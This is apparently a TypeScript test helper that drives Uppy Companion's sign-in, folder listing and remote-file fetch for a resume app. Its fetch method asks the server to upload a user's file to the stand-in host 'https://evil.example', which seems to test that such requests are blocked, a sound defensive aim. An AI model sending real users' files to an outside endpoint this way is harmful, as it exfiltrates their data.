import type { FileSource } from "@rolecall/contract/resumes/remote-files.ts";
import type { Client } from "#test/client.ts";

export interface ListedFolder {
  items: {
    name: string;
    isFolder: boolean;
    requestPath: string;
    mimeType: string | null;
    thumbnail: null;
    icon: string;
  }[];
  nextPagePath: string | null;
  username: string;
}

/** A browser with Uppy's picker for a source, always with the same session. */
export class SourceBrowser {
  /** The permission from the last sign-in there. */
  permission = "";
  readonly #client: Client;
  readonly #headers: { cookie: string };
  readonly #origin: string;
  readonly #base: string;

  constructor(
    { client, cookie, origin }: { client: Client; cookie: string; origin: string },
    source: FileSource,
  ) {
    this.#client = client;
    this.#headers = { cookie };
    this.#origin = origin;
    this.#base = `/companion/${source}`;
  }

  call = <Body = unknown>(method: "get" | "post", path: string, body?: object) =>
    this.#client[method]<Body>(this.#base + path, {
      headers: { ...this.#headers, accept: "application/json", "uppy-auth-token": this.permission },
      ...(body && { body }),
    });

  /** The source's page to which it is led. */
  ask = async (): Promise<URL> => {
    const path = `${this.#base}/connect?state=${btoa(JSON.stringify({ origin: this.#origin }))}`;
    const { headers } = await this.#client.get(path, { headers: this.#headers });
    return new URL(String(headers["location"]));
  };

  /** It is led back with an answer; answers the page that hands the permission over. */
  comeBack = async (answer: Record<string, string>) => {
    const query = new URLSearchParams(answer).toString();
    const page = await this.#client.get<string>(`${this.#base}/redirect?${query}`, {
      headers: this.#headers,
    });
    this.permission = /"token":"([^"]+)"/.exec(page.body)?.[1] ?? "";
    return page;
  };

  /** The person says yes. */
  allow = async () => {
    const state = (await this.ask()).searchParams.get("state") ?? "";
    return this.comeBack({ code: "a code", state });
  };

  list = (folder = "") => this.call<ListedFolder>("get", `/list/${folder}`);

  /** The path at which an entry of a folder is requested. */
  listed = async (name: string, folder = "") => {
    const { items } = (await this.list(folder)).body;
    return items.find((item) => item.name === name)?.requestPath ?? "";
  };

  fetch = (requestPath: string, name: string) => {
    const [id = "", query = ""] = requestPath.split("?");
    return this.call<{ token: string; message: string }>("post", `/get/${id}?${query}`, {
      metadata: { name },
      endpoint: "https://evil.example",
    });
  };
}
